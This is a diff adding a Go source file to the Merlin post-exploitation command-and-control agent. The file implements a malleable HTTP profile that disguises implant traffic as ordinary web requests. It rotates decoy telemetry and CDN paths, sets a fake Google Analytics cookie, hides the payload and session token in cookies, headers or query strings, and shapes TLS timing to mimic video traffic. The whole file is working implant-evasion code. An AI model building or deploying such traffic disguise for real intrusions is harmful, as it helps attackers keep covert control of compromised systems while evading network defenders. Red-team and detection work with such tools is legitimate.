@@ -0,0 +1,240 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package profile is a malleable HTTP profile used to control how the HTTP client builds its requests to include the
+// URIs, headers, cookies, query parameters, and where the message payload and JWT are placed
+package profile
+
+import (
+	// Standard
+	"bytes"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"math/rand"
+	"net/http"
+	"net/url"
+	"os"
+	"strings"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/shape"
+)
+
+// Locations where data can be placed in an HTTP request
+const (
+	BODY   = "body"
+	COOKIE = "cookie"
+	HEADER = "header"
+	QUERY  = "query"
+)
+
+// Profile holds the malleable HTTP request settings
+//
+// Example:
+//
+//	{
+//	  "uris": ["/api/v2/telemetry", "/cdn/assets/app.js"],
+//	  "method": "POST",
+//	  "contentType": "application/json",
+//	  "headers": {"Accept": "*/*", "Accept-Language": "en-US"},
+//	  "cookies": {"_ga": "GA1.2.1185740389.1702596823"},
+//	  "parameters": {"v": "3.1.0"},
+//	  "payload": {"location": "body", "prefix": "{\"data\":\"", "suffix": "\"}"},
+//	  "token": {"location": "cookie", "name": "session"},
+//	  "shaping": {"preset": "video", "padHeader": "X-Client-Trace"}
+//	}
+type Profile struct {
+	URIs        []string          `json:"uris"`        // URIs is a list of paths, one is randomly selected for every request
+	Method      string            `json:"method"`      // Method is the HTTP method used for every request (e.g., POST)
+	ContentType string            `json:"contentType"` // ContentType is the HTTP Content-Type header value
+	Headers     map[string]string `json:"headers"`     // Headers are additional HTTP headers added to every request
+	Cookies     map[string]string `json:"cookies"`     // Cookies are additional HTTP cookies added to every request
+	Parameters  map[string]string `json:"parameters"`  // Parameters are additional URL query parameters added to every request
+	Payload     Location          `json:"payload"`     // Payload is where the message payload is placed in the request
+	Token       Location          `json:"token"`       // Token is where the JWT is placed in the request
+	Shaping     *shape.Profile    `json:"shaping"`     // Shaping is the TLS record size and timing profile, if any
+}
+
+// Location describes where, and with what name, data is placed in an HTTP request
+type Location struct {
+	Location string `json:"location"` // Location is where the data goes: body, cookie, header, or query
+	Name     string `json:"name"`     // Name is the cookie, header, or query parameter name; not used with body
+	Prefix   string `json:"prefix"`   // Prefix is prepended to the data
+	Suffix   string `json:"suffix"`   // Suffix is appended to the data
+}
+
+// Parse builds a Profile from the provided string that can be JSON, a base64 encoded JSON string, or the path to a
+// file containing JSON. An empty string returns a nil Profile
+func Parse(profile string) (*Profile, error) {
+	profile = strings.TrimSpace(profile)
+	if profile == "" {
+		return nil, nil
+	}
+
+	data := []byte(profile)
+	if !strings.HasPrefix(profile, "{") {
+		if _, err := os.Stat(profile); err == nil {
+			data, err = os.ReadFile(profile) // #nosec G304 -- The profile path is provided by the operator
+			if err != nil {
+				return nil, fmt.Errorf("clients/http/profile.Parse(): there was an error reading the profile file %s: %s", profile, err)
+			}
+		} else {
+			data, err = base64.StdEncoding.DecodeString(profile)
+			if err != nil {
+				return nil, fmt.Errorf("clients/http/profile.Parse(): the profile is not JSON, a file, or base64 encoded JSON: %s", err)
+			}
+		}
+	}
+
+	p := &Profile{}
+	err := json.Unmarshal(data, p)
+	if err != nil {
+		return nil, fmt.Errorf("clients/http/profile.Parse(): there was an error unmarshalling the profile JSON: %s", err)
+	}
+
+	// Defaults
+	if p.Method == "" {
+		p.Method = http.MethodPost
+	}
+	p.Method = strings.ToUpper(p.Method)
+	if p.ContentType == "" {
+		p.ContentType = "application/octet-stream; charset=utf-8"
+	}
+	if p.Payload.Location == "" {
+		p.Payload.Location = BODY
+	}
+	if p.Token.Location == "" {
+		p.Token = Location{Location: HEADER, Name: "Authorization", Prefix: "Bearer "}
+	}
+
+	// Validate
+	for _, l := range []Location{p.Payload, p.Token} {
+		switch strings.ToLower(l.Location) {
+		case BODY:
+		case COOKIE, HEADER, QUERY:
+			if l.Name == "" {
+				return nil, fmt.Errorf("clients/http/profile.Parse(): a name is required for the %s location", l.Location)
+			}
+		default:
+			return nil, fmt.Errorf("clients/http/profile.Parse(): unhandled location: %s", l.Location)
+		}
+	}
+	if strings.ToLower(p.Token.Location) == BODY {
+		return nil, fmt.Errorf("clients/http/profile.Parse(): the token can not be placed in the body")
+	}
+	if p.Shaping != nil {
+		err = p.Shaping.Init()
+		if err != nil {
+			return nil, fmt.Errorf("clients/http/profile.Parse(): %s", err)
+		}
+	}
+	return p, nil
+}
+
+// Request builds an HTTP request for the provided target URL, message payload, and JWT according to the Profile.
+// When a profile URI is used, it replaces the path of the target URL.
+// Payloads placed outside the body are base64 URL encoded because they must be valid text
+func (p *Profile) Request(target string, data []byte, token string) (*http.Request, error) {
+	u, err := url.Parse(target)
+	if err != nil {
+		return nil, fmt.Errorf("clients/http/profile.Request(): there was an error parsing the URL %s: %s", target, err)
+	}
+	if len(p.URIs) > 0 {
+		// #nosec G404 -- Random number does not impact security
+		uri := p.URIs[rand.Intn(len(p.URIs))]
+		ref, err := url.Parse(uri)
+		if err != nil {
+			return nil, fmt.Errorf("clients/http/profile.Request(): there was an error parsing the URI %s: %s", uri, err)
+		}
+		u.Path = ref.Path
+		if ref.RawQuery != "" {
+			u.RawQuery = ref.RawQuery
+		}
+	}
+
+	query := u.Query()
+	for k, v := range p.Parameters {
+		query.Set(k, v)
+	}
+
+	var body []byte
+	headers := make(map[string]string)
+	cookies := make(map[string]string)
+	for k, v := range p.Cookies {
+		cookies[k] = v
+	}
+
+	place := func(l Location, value []byte) {
+		switch strings.ToLower(l.Location) {
+		case BODY:
+			body = append([]byte(l.Prefix), value...)
+			body = append(body, []byte(l.Suffix)...)
+		case COOKIE:
+			cookies[l.Name] = l.Prefix + string(value) + l.Suffix
+		case HEADER:
+			headers[l.Name] = l.Prefix + string(value) + l.Suffix
+		case QUERY:
+			query.Set(l.Name, l.Prefix+string(value)+l.Suffix)
+		}
+	}
+
+	if strings.ToLower(p.Payload.Location) == BODY {
+		place(p.Payload, data)
+	} else {
+		place(p.Payload, []byte(base64.RawURLEncoding.EncodeToString(data)))
+	}
+	if token != "" {
+		place(p.Token, []byte(token))
+	}
+	u.RawQuery = query.Encode()
+
+	var req *http.Request
+	if body != nil {
+		req, err = http.NewRequest(p.Method, u.String(), bytes.NewReader(body))
+	} else {
+		req, err = http.NewRequest(p.Method, u.String(), nil)
+	}
+	if err != nil {
+		return nil, fmt.Errorf("clients/http/profile.Request(): there was an error building the HTTP request: %s", err)
+	}
+
+	if body != nil {
+		req.Header.Set("Content-Type", p.ContentType)
+	}
+	for k, v := range p.Headers {
+		req.Header.Set(k, v)
+	}
+	for k, v := range headers {
+		req.Header.Set(k, v)
+	}
+	for k, v := range cookies {
+		req.AddCookie(&http.Cookie{Name: k, Value: v})
+	}
+	return req, nil
+}
+
+// String returns a short description of the Profile
+func (p *Profile) String() string {
+	if p.Shaping != nil {
+		return fmt.Sprintf("%s %v, payload: %s %s, token: %s %s, shaping: %s", p.Method, p.URIs, p.Payload.Location, p.Payload.Name, p.Token.Location, p.Token.Name, p.Shaping)
+	}
+	return fmt.Sprintf("%s %v, payload: %s %s, token: %s %s", p.Method, p.URIs, p.Payload.Location, p.Payload.Name, p.Token.Location, p.Token.Name)
+}